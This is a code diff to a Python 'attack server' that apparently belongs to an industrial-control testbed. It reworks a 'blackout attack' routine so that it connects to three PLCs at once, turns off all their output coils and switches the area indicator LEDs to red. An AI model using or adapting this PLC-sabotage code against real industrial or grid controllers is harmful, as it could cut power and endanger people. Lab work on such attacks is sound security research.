@@ -17,13 +17,23 @@ import time
 import signal
 import socket
 import subprocess
-# PLC control module:
-import M2PLC221 as m221
-import S7PLC1200 as s71200
+from concurrent.futures import ThreadPoolExecutor, as_completed
+# PLC control module (the PLC driver package in the project root folder):
+sys.path.append(os.path.join(os.path.dirname(os.path.abspath(__file__)), '..', '..'))
+import plcDriver
 
 SEV_IP = ('0.0.0.0', 5005)  # UDP server ip
 BUFFER_SZ = 1024            # UPD receive buffer size
 
+# Blackout attack targets: (PLC name, PLC type, IP address, {coil: value})
+# M60 = 1 turns the insudtrial/city LED to red, qx0.2 = 1 turns the residentail
+# LED to red, all the other output coils are turned off.
+BLACKOUT_CFG = (
+    ('PLC 1', 'M', '192.168.10.72', {'M0': 0, 'M10': 0, 'M20': 0, 'M60': 1}),
+    ('PLC 2', 'M', '192.168.10.71', {'M0': 0, 'M10': 0, 'M20': 0, 'M60': 1}),
+    ('PLC 3', 'C', '192.168.10.73', {'qx0.0': 0, 'qx0.1': 0, 'qx0.2': 1, 'qx0.3': 0})
+)
+
 #-----------------------------------------------------------------------------
 #-----------------------------------------------------------------------------
 class attackServ(object):
@@ -34,37 +44,37 @@ class attackServ(object):
         self.sock.bind(SEV_IP)
         self.terminate = False
 
+#-----------------------------------------------------------------------------
+    def blackoutPLC(self, plcName, plcType, ip, coilDict, startT):
+        """ Connect to one PLC and write all its coils in one batch, return the
+            (PLC name, result, completion time from <startT>).
+        """
+        driver = plcDriver.getDriver(plcType, ip)
+        try:
+            with driver.batch() as batch:
+                for addr, val in coilDict.items(): batch.write(addr, val)
+        finally:
+            driver.close()
+        return (plcName, batch.result, time.time() - startT)
+
 #-----------------------------------------------------------------------------
     def changePLC(self):
-        """ Turn off all the PLC output, change area indicate LED to 'red'."""
+        """ Turn off all the PLC output, change area indicate LED to 'red'. All 
+            the PLCs are connected and written in parallel.
+        """
         print("Turning Off all the PLC coils: ")
-        # Turn off M221 PLCs
-        memList = ('M0', 'M10', 'M20', 'M60')
-        # PLC 1 M221
-        plc1 = m221.M221('192.168.10.72')
-        for memAddr in memList:
-            plc1.writeMem(memAddr, 0)
-            time.sleep(0.3)
-        plc1.writeMem('M60', 1)  # Turn the insudtrial LED to red.
-        plc1.disconnect()
-        print("Trun off PLC 1 output coils.")
-        # PLC 2 M221
-        plc2 = m221.M221('192.168.10.71')
-        for memAddr in memList:
-            plc2.writeMem(memAddr, 0)
-            time.sleep(0.3)
-        plc2.writeMem('M60', 1)  # Turn the city LED to red.
-        plc2.disconnect()
-        print("Trun off PLC 2 output coils.")
-        # PLC3 S72100
-        plc3 = s71200.S7PLC1200('192.168.10.73')
-        for x in range(4):
-            plc3.writeMem('qx0.'+str(x), False)
-            time.sleep(0.3)
-        plc3.writeMem('qx0.'+str(2), True)  # Turn the residentail LED to red.
-        plc3.plc.disconnect()
-        print("Trun off PLC 3 output coils.")
-        print("Finished turn off all the PLC output.")
+        startT = time.time()
+        with ThreadPoolExecutor(max_workers=len(BLACKOUT_CFG)) as executor:
+            futureList = [executor.submit(self.blackoutPLC, *plcCfg, startT) 
+                          for plcCfg in BLACKOUT_CFG]
+            for future in as_completed(futureList):
+                try:
+                    (plcName, result, doneT) = future.result()
+                    print("Trun off %s output coils: %s [%.3f sec]" % (
+                        plcName, 'done' if result else 'failed', doneT))
+                except Exception as err:
+                    print("Trun off PLC output coils error: %s" % str(err))
+        print("Finished turn off all the PLC output [%.3f sec]." % (time.time() - startT))
 
 #-----------------------------------------------------------------------------
     def parseMsg(self, msg, addr):